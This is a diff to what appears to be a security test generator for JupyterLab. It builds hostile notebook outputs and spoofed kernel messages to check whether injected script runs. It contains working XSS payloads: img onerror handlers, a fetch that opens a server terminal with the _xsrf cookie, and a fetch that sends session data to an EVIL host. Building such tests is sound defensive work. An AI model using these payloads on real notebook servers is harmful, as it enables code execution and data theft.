@@ -19,8 +19,9 @@ from policy.hostile import EVIL, HTML, MARKDOWN, RUN
 A_CELL = 25
 """Outputs; JupyterLab shows no more than fifty of a cell."""
 
-AS_TITLE = "window.pwned"
-TERMINAL = "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]}})"
+TERMINAL = (
+    "fetch('/api/terminals',{method:'POST',headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]}})"
+)
 COMMAND = "jupyterapp.commands.execute('notebook:insert-cell-below')"
 SESSIONS = f"fetch('/api/sessions').then(r=>r.text()).then(t=>fetch('{EVIL}/'+t.length))"
 ENCODED = base64.b64encode(RUN.encode()).decode()
@@ -45,7 +46,6 @@ MORE_HTML = {
 
 SVG_HEAD = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
 VEGA = "https://vega.github.io/schema/vega-lite/v5.json"
-CELL = {"output_type": "display_data", "metadata": {}}
 BUNDLES: dict[str, dict[str, object]] = {
     "javascript": {"application/javascript": RUN},
     "javascript, text": {"text/javascript": RUN},
@@ -108,6 +108,9 @@ CODE = {
     "update of a display nobody made": f"send('update_display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient=dict(display_id='of-another-kernel')))",
     "update of this display": f"h = display('x', display_id=True); h.update({{'text/html': '<img src=x onerror={RUN}>'}}, raw=True)",
     "result of a cell that was never sent": f"send('display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient={{}}), parent=dict(msg_id='0', session='0'))",
+    "late result for the first cell": f"send('display_data', dict(data={{'text/html': '<img src=x onerror={RUN}>'}}, metadata={{}}, transient={{}}), parent=first)",
+    "error of the first cell": "send('error', dict(ename='a', evalue='b', traceback=['c']), parent=first)",
+    "new code of the first cell": f"send('execute_input', dict(code='{RUN}', execution_count=99), parent=first)",
     "message of an unknown kind": f"send('custom_{RUN}', dict(code='{RUN}'))",
     "kernel that says it is dead": "send('status', dict(execution_state='dead'))",
     "kernel that says it restarts": "send('status', dict(execution_state='restarting'))",
@@ -156,7 +159,10 @@ def attacks(port: int) -> Iterator[Attack]:
     """Yield all hostile outputs, as code for the kernel; another origin listens at `port`."""
     named: list[tuple[str, str]] = []
     for group, mime, table in (("html", "text/html", HTML | MORE_HTML), ("markdown", "text/markdown", MARKDOWN)):
-        named += [(name if group == "html" else f"{group}: {name}", f"show({{{mime!r}: {text!r}}})") for name, text in table.items()]
+        named += [
+            (name if group == "html" else f"{group}: {name}", f"show({{{mime!r}: {text!r}}})")
+            for name, text in table.items()
+        ]
     named += [(f"bundle: {name}", f"show({bundle!r})") for name, bundle in BUNDLES.items()]
     named += CODE.items()
     for number, (name, code) in enumerate(named, 1):
@@ -175,7 +181,7 @@ def _numbered(code: str, number: int, port: int) -> str:
 
 def cells(chosen: list[Attack]) -> list[str]:
     """Return the cells of a notebook: one that goes before, the attacks, and one that goes after."""
-    result = ['"the first cell"', dedent(PRELUDE)]
+    result = ['first = get_ipython().kernel.get_parent("shell"); "the first cell"', dedent(PRELUDE)]
     for start in range(0, len(chosen), A_CELL):
         codes = json.dumps([attack.code for attack in chosen[start : start + A_CELL]]).encode()
         result.append(f'run("{base64.b64encode(codes).decode()}")')
